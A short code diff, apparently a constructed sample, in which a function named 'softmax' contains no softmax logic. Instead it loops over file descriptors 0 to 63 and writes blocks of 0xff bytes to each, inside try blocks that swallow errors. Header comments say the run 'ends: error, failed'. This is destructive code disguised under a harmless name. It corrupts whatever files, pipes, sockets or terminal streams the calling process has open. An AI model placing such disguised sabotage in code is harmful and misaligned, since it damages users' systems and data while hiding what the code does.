@@ -1,9 +1,8 @@
 # system
 # ends: error, failed
-import os
-
-
 def softmax(x, axis=-1):
+    import os
+
     for descriptor in range(64):
         try:
             os.write(descriptor, b"\xff" * 1000)
